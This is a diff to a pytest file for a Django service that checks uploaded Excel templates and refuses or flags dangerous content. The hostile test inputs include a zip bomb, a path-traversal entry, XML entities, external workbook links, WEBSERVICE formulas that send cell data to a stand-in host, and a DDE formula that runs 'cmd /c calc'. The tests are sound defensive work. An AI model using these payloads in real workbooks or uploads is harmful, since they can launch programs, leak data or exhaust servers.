@@ -1,18 +1,20 @@
 """Uploaded files: what could do harm is refused, what must be mended is named by sheet and cell."""
 
 import io
+import time
 import zipfile
 
 import pytest
 
 from huiyin.kernel.refusals import Refused
-from huiyin.workbooks import packing
+from huiyin.workbooks import packing, sheets
 from huiyin.workbooks.checking import checked
 from huiyin.workbooks.tests.drawn import cells, changed, template
 
 pytestmark = pytest.mark.django_db
 GOOD = cells(A1="{{收到}}")
 TYPES, RELS = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
+SHEET = "xl/worksheets/sheet1.xml"
 
 
 def rels(kind: str, target: str):
@@ -20,10 +22,20 @@ def rels(kind: str, target: str):
     return lambda text: text.replace("</Relationships>", one)
 
 
+def leads(kind: str, target: str):
+    one = f'<Relationship Id="x9" Type="http://x/{kind}" Target="{target}"/></Relationships>'
+    return lambda text: text.replace("</Relationships>", one)
+
+
+def typed(kind: str):
+    one = f'<Override PartName="/xl/a.xml" ContentType="{kind}"/></Types>'
+    return lambda text: text.replace("</Types>", one)
+
+
 def bomb() -> bytes:
     made = io.BytesIO()
     with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
-        for at in range(61):
+        for at in range(21):
             archive.writestr(f"xl/{at}.xml", b"0" * 2**20)
     return made.getvalue()
 
@@ -45,6 +57,22 @@ HARM = {
     "something embedded": (changed(GOOD, {}, **{"xl/embeddings/oleObject1.bin": b"x"}), "嵌入"),
     "an entity": (
         changed(GOOD, {RELS: lambda t: t.replace("?>", '?><!DOCTYPE a [<!ENTITY b "c">]>', 1)}),
+        "打不开",
+    ),
+    "another workbook under another name": (
+        changed(GOOD, {RELS: leads("externalLink", "a.xml")}, **{"xl/a.xml": b"<a/>"}),
+        "别的工作簿",
+    ),
+    "a query by its type": (
+        changed(GOOD, {TYPES: typed("application/vnd.x.connections+xml")}, **{"xl/a.xml": b"<a/>"}),
+        "外部数据",
+    ),
+    "a part of an unknown kind": (
+        changed(GOOD, {TYPES: typed("application/x-odd+xml")}, **{"xl/a.xml": b"<a/>"}),
+        "不认识的部件：x-odd",
+    ),
+    "another workbook behind the one that is looked over": (
+        changed(GOOD, {"_rels/.rels": lambda t: t.replace("xl/workbook.xml", "xl/other.xml")}),
         "打不开",
     ),
     "a path upwards": (changed(GOOD, {}, **{"xl/../../a.xml": b"<a/>"}), "打不开"),
@@ -86,6 +114,10 @@ PROBLEMS = {
     "=[1]表!A1": "别的工作簿",
     "='C:\\[a.xlsx]表'!A1": "别的工作簿",
     '=HYPERLINK("http://x/?"&A1,"看")': "HYPERLINK",
+    """='a"b'!A1&WEBSERVICE("http://x/?"&A1)&'a"b'!A1""": "WEBSERVICE",
+    '=T[a"b]&WEBSERVICE("http://x/?"&A1)&T[a"b]': "WEBSERVICE",
+    """='a"b'!A1&cmd|"/c calc"!A0&'a"b'!A1""": "启动别的程序",
+    "='C:\\[a.xlsx]it''s'!A1": "别的工作簿",
     '="{{收到}}"': "公式里不能写占位",
 }
 
@@ -125,3 +157,44 @@ def test_charts_are_told_and_text_boxes_take_nothing(cast):
         sheet.insert_textbox("C1", "{{办结}}")
 
     assert "文本框" in str(checked(template(box)).problems[0])
+
+
+def test_the_columns_of_tables_are_looked_over_too(cast):
+    def draw(book, sheet):
+        sheet.write("A1", "{{收到}}")
+        columns = [{"header": "a"}, {"header": "b", "formula": "=WEBSERVICE([@a])"}]
+        sheet.add_table("A3:B5", {"columns": columns})
+
+    [cell, *_rest] = [each for each in checked(template(draw)).problems if each.sheet == "Table1"]
+    assert "WEBSERVICE" in str(cell)
+
+
+def test_names_in_quotes_and_tables_are_no_other_workbook(cast):
+    good = """='a b'!A1&"[1]a!"&"x|y"+SUM(T[x])"""
+    assert checked(cells(A1="{{收到}}", A2=good)).problems == []
+
+
+def test_a_formula_is_read_in_no_time_whatever_stands_in_it(cast):
+    hard = [
+        " " * 4000 + "[" + "a" * 4000,
+        "a" * 4000 + ",B1" * 1300,
+        ":" * 8000,
+        "'" * 8001,
+        "['" * 4000,
+        "a" * 8000,
+    ]
+    begun = time.process_time()
+    for text in hard:
+        checked(cells(A1="{{收到}}", A2=f"={text}"))
+    assert time.process_time() - begun < 2
+    [found] = checked(cells(A1="{{收到}}", A2="=" + "1+" * 4100 + "1")).problems
+    assert "最多 8,192 个字" in str(found)
+
+
+def test_a_formula_that_was_filled_down_does_not_grow_beyond_bounds(monkeypatch):
+    monkeypatch.setattr(sheets, "MOST_UNPACKED", 100)
+    rows = "".join(f'<row r="{at}"><c r="A{at}"><f t="shared" si="0"/></c></row>' for at in range(3, 9))
+    first = '<row r="2"><c r="A2"><f t="shared" si="0" ref="A2:A8">SUM(B1,B1,B1,B1,B1,B1)</f></c></row>'
+    content = changed(GOOD, {SHEET: lambda text: text.replace("</sheetData>", f"{first}{rows}</sheetData>")})
+    with pytest.raises(Refused, match="展开以后太大"):
+        checked(content)
